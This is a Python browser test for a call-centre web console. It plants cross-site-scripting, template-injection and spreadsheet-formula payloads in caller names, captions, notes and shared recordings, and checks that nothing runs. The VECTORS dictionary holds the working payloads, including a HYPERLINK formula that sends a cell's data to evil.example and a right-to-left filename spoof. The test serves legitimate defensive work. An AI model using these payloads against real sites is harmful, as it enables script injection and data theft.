"""Words that would be scripts: in a caller's name over SIP, captions, notes, messages to agents, a queue's
title and a shared recording. They are read on every page there is, and nowhere do they run.
"""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

from engine.store import database
from engine.store.transcripts import Review, Said, Transcripts
from tests.browser.chromium import Tab, missing
from tests.browser.pages import QUEUES, TERMS, AgentPage, Tabs, node_for_pages
from tests.browser.test_supervisor import made
from tests.interop.conftest import prompts_of, serve
from tests.interop.node import LINE, Node
from tests.interop.sipp import Sipp

if TYPE_CHECKING:
    from playwright.sync_api import Page

RAN = "window.ran=(window.ran||0)+1"
VECTORS = {
    "element": f"<img src=x onerror={RAN}><svg/onload={RAN}>",
    "script": f"</script><script>{RAN}</script>",
    "attribute": f"' onmouseover={RAN} autofocus onfocus={RAN} x='",
    "link": f"javascript:{RAN}",
    "template": f"{{{{constructor.constructor('{RAN}')()}}}}${{{RAN}}}<%= 7*7 %>",
    "entities": f"&lt;img src=x onerror={RAN}&gt;&#60;b&#62;",
    "formula": '=HYPERLINK("http://evil.example/?"&A1)',
}
DIRECTION = "\u202egpj.exe\u2066 Ana"  # shown from right to left, if it could
EVERY = " ".join(VECTORS.values())
TITLE = f"Bureau {VECTORS['element']}{VECTORS['script']}"
BUREAU = TERMS | {"title": TITLE, "ring_timeout_s": 60, "wrap_up_s": 60, "recording": {"mode": "on"}}
CONSOLE = (
    "", "calls", "queues", "agents", "lines", "nodes", "config", "recordings", "audit", "audit?doing=reads",
    "users", "account", "reports?period=day&by=queue", "reports?period=day&by=agent&then=queue",
    # and by its address
    f"calls?number={VECTORS['element']}", f"calls/{VECTORS['element'].replace('/', '%2f')}",
    f"reports?period={VECTORS['script']}", f"recordings?agent={VECTORS['attribute']}",
)  # fmt: skip
# what Chromium says of itself: answers of 4xx, and a machine that has no loudspeaker
HARMLESS = ("Failed to load resource", "AudioContext", "The operation could not be performed and was aborted")


@pytest.fixture(scope="module")
def node(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Node]:
    reason = missing()
    if reason is not None:
        pytest.skip(reason)
    folder = tmp_path_factory.mktemp("planted")
    yield from serve(
        node_for_pages(folder, prompts_of(request.config.cache), queues=QUEUES | {"desk": BUREAU})
    )


class Watched:
    """Looks for anything that ran, or that the policy had to keep from running."""

    def __init__(self) -> None:
        self.said: list[str] = []

    def watch(self, page: Page) -> None:
        page.on("dialog", self._asked)
        page.on("pageerror", lambda error: self._told(page, str(error)))
        page.on("console", lambda each: self._told(page, each.text) if each.type == "error" else None)
        page.on("request", lambda request: self._went(request.url))

    def _asked(self, dialog: Any) -> None:
        self.said.append(f"a dialog: {dialog.message}")
        dialog.dismiss()

    def _told(self, page: Page, text: str) -> None:
        if not any(each in text for each in HARMLESS):
            self.said.append(f"{page.url}: {text}")

    def _went(self, url: str) -> None:
        if "evil.example" in url or url.rstrip("/").endswith("/x"):
            self.said.append(f"went to {url}")

    def look(self, page: Page) -> None:
        assert page.evaluate("() => window.ran") is None, page.url
        elements = "img[src='x'], [onerror], [onload], [onmouseover], [onfocus], a[href^='javascript:']"
        assert page.locator(elements).count() == 0, page.url
        assert self.said == []


def guarded(page: Page, answer: Any) -> None:
    policy = answer.headers["content-security-policy"]
    assert "default-src 'none'" in policy and "base-uri 'none'" in policy, page.url
    scripts = [part for part in policy.split(";") if part.strip().startswith("script-src")]
    assert all("unsafe" not in part and "*" not in part for part in scripts), policy


class Office:
    """Ada, who may see all of it, at the console."""

    def __init__(self, tabs: Tabs, node: Node, password: str, says: Path, watched: Watched) -> None:
        self.tab: Tab = tabs(says=says, bypass_csp=False)
        self.page, self.node, self.watched = self.tab.page, node, watched
        self.password = password
        watched.watch(self.page)

    def look(self, to: str) -> str:
        """Open a place of the console; what is to be read there."""
        page = self.page
        answer = page.goto(f"{self.node.api}/console/{to}")
        if page.locator("#password").count():
            guarded(page, answer)
            page.fill("#name", "ada")
            page.fill("#password", self.password)
            with page.expect_navigation():
                page.press("#password", "Enter")
            answer = page.goto(f"{self.node.api}/console/{to}")
        guarded(page, answer)
        page.wait_for_selector(".page-head h1")
        page.wait_for_function("() => !document.querySelector('[aria-busy=true]')")
        page.evaluate("() => { for (const each of document.querySelectorAll('details')) each.open = true; }")
        self.watched.look(page)
        return page.inner_text("body")


def plant(node: Node, call: str) -> None:
    node.post("/v1/agents/anna/notes", {"text": EVERY})
    for line, side in enumerate(("customer", "agent")):
        said = {"side": side, "line": line, "text": EVERY, "language": "es", "translation": EVERY, "to": "en"}
        node.post(f"/v1/calls/{call}/captions", said | {"final": line == 0, "guess": 0})


def said_in(node: Node, call: str, ended_at: float) -> None:
    """What a speech worker would have written down, once the node has made its own of the call."""
    engine = database.connect(f"sqlite:///{node.data}/isogloss.db")
    kept = Transcripts(engine)
    node.until("review of the call", lambda: kept.review(call) is not None, 20.0)
    lines = [Said(side="customer", begin=0.1, end=0.5, language="es", text=EVERY, translation=EVERY)]
    review = Review(
        call=call, ended_at=ended_at, market="uk", queue="desk", agent="anna", summary=EVERY, by=EVERY
    )
    kept.keep(review, lines)
    engine.dispose()


def test_they_run_nowhere(node: Node, tab: Tabs, speech: Callable[[str], Path], tmp_path: Path) -> None:
    watched = Watched()
    office = Office(tab, node, made(node, "ada", "admin"), speech("hello"), watched)
    anna = AgentPage(tab, node, "anna", speech("good morning"), bypass_csp=False)
    watched.watch(anna.page)
    anna.start()
    quoted = EVERY.replace("\\", "\\\\").replace('"', '\\"')
    name = f'"{quoted} {DIRECTION}" '
    remote = {"remote": node.address(), "address": LINE, "number": "desk", "timeout": 200}
    with Sipp("caller_talks", tmp_path, display=name, talk="150000", echo=True, **remote) as caller:
        anna.page.wait_for_selector("#offer:not([hidden])")
        (call,) = [each["id"] for each in node.get("/v1/calls?queue=desk")["items"]]
        watched.look(anna.page)
        seen = {to: "onerror" in office.look(to) for to in ("", "calls", f"calls/{call}")}
        assert seen[f"calls/{call}"], seen
        anna.answer()
        plant(node, call)
        anna.page.wait_for_selector("#notes .note")
        anna.page.wait_for_selector(".caption >> nth=1")
        shown = anna.page.inner_text("body")
        assert EVERY in shown and "onerror" in anna.page.inner_text("#notes")
        watched.look(anna.page)
        for to in ("", "calls", f"calls/{call}", "queues", "agents"):
            office.look(to)
        anna.page.click("#hangup")
        anna.in_state("wrap_up")
        anna.page.check("input[value=resolved]", force=True)
        anna.page.fill("#wrap-notes", EVERY)
        anna.page.click("#wrap-done")
        anna.in_state("available")
        caller.kill()
        caller.process.returncode = 0
    record = node.record("desk")
    assert "\u202e" not in json.dumps(record, ensure_ascii=False)
    said_in(node, call, node.since)
    for to in (*CONSOLE, f"calls/{call}", f"recordings/{call}"):
        office.look(to)
    _is_shared(node, tab, call, watched, office)


def _is_shared(node: Node, tab: Tabs, call: str, watched: Watched, office: Office) -> None:
    (found,) = [each for each in node.get("/v1/recordings")["items"] if each["call"] == call]
    wish = {"lasts_s": 600, "transcript": True, "note": EVERY[:200]}
    made = node.post(f"/v1/recordings/{found['recording']}/shares", wish)
    page = office.tab.page.context.new_page()
    watched.watch(page)
    guarded(page, page.goto(f"{node.api}{made['path']}"))
    assert EVERY in page.inner_text("main")
    watched.look(page)
    office.look(f"recordings/{call}")
